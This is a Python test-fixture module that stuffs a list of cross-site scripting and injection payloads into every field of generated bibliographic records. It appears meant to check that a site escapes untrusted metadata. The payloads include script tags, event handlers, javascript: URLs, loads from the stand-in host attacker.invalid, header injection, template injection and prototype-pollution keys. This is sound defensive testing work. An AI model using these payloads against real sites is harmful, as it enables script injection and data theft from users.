# SPDX-License-Identifier: MIT
"""Records whose every field tries to become part of the page.  An attack that
works calls alert(), asks attacker.invalid for something, or goes there."""
import json

from records import work

PREFIX = "10.5555/attack."
ATTACKS = (
    "<script>alert(1)</script>",
    "<script src=//attacker.invalid/1.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//attacker.invalid/1.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "<meta http-equiv=refresh content=0;url=//attacker.invalid/>",
    "<base href=//attacker.invalid/>",
    "<style>@import '//attacker.invalid/1.css';</style>",
    "<form action=//attacker.invalid/><button>go</button></form>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</title><script>alert(1)</script>",
    "</textarea></pre></main><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
    "' onfocus='alert(1)' autofocus x='",
    "` onerror=`alert(1)`",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//attacker.invalid/",
    "https://attacker.invalid/%0a%0dSet-Cookie:a=b",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "{main}{version}{query}",
    "<%= alert(1) %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028alert(1)\u2029",
    "\u202egnp.exe\u202c turned \u202eround",
    "\u2066isolated\u2067 for ever",
    "\ufeff\u200b<\u200bscript>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "*/alert(1)/*", "\\\"-alert(1)-\\\"", "';alert(1)//",
    "__proto__", "constructor", "toString",
)


def crossref(number, attack):
    """In every field of a work; its DOI too, where a DOI may have it."""
    tail = attack if attack.isprintable() and " " not in attack else ""
    url = attack if ":" in attack else f"javascript:alert(1)//{attack}"
    one = {"given": attack, "family": attack, "suffix": attack,
           "sequence": "first", "ORCID": url,
           "affiliation": [{"name": attack}]}
    return work(
        "", DOI=f"{PREFIX}{number}{tail}", title=[f"Attack {number} {attack}"],
        subtitle=[attack], author=[one, {"name": attack}], editor=[one],
        abstract=f"<jats:p>{attack}</jats:p>\n{attack}", publisher=attack,
        volume=attack, issue=attack, page=attack, URL=url, subject=[attack],
        source=attack, ISSN=[attack], ISBN=[attack],
        issued={"date-parts": [[2000 + number]]},
        license=[{"URL": url, "content-version": attack}],
        link=[{"URL": url, "content-type": attack}],
        funder=[{"name": attack, "DOI": attack, "award": [attack]}],
        reference=[{"key": attack, "unstructured": attack},
                   {"key": "a", "author": attack, "article-title": attack,
                    "journal-title": attack, "year": attack,
                    "volume": attack, "first-page": attack},
                   {"key": "b", "DOI": f"10.5555/{attack}"}],
        **{"container-title": [f"Journal {attack}"],
           "short-container-title": [attack], "article-number": attack,
           "original-title": [attack], "update-to": [
               {"DOI": f"10.5555/{attack}", "type": attack, "label": attack,
                "updated": {"date-parts": [[2001, 1, 1]]}}],
           "alternative-id": [attack], "resource": {"primary": {"URL": url}}})


def aggregated(number, attack):
    """In the fields that only the aggregator has."""
    inner = {
        "title": f"Gathered attack {number} {attack}", "authors": attack,
        "doi": f"{PREFIX}gathered.{number}", "url": attack,
        "abstract": f"<p>{attack}</p>",
        "journal": {"name": f"Gathered {attack}", "volume": attack,
                    "pages": attack},
        "PeriodicalIF": 1.5, "publicationDate": "2024-01-01",
        "publicationTypes": attack, "openAccessPdf": attack,
        "citationCount": "1", "resultStr": None, "platform": attack,
        "PeriodicalName": f"Gathered {attack}", "RegionNum": 2,
        "RegionCategory": attack, "JCR": attack, "JCRName": attack}
    outer = {**inner, "title": f"攻击 {number} {attack}",
             "TitleCN": attack, "AbstractTextCN": attack,
             "resultStr": json.dumps(inner, ensure_ascii=False)}
    return "\n".join((json.dumps(outer, ensure_ascii=False), inner["title"],
                      attack, "期刊介绍:", attack, ""))


def works():
    return [crossref(number, attack) for number, attack in enumerate(ATTACKS)]


def gathered():
    return "".join(aggregated(number, attack)
                   for number, attack in enumerate(ATTACKS))
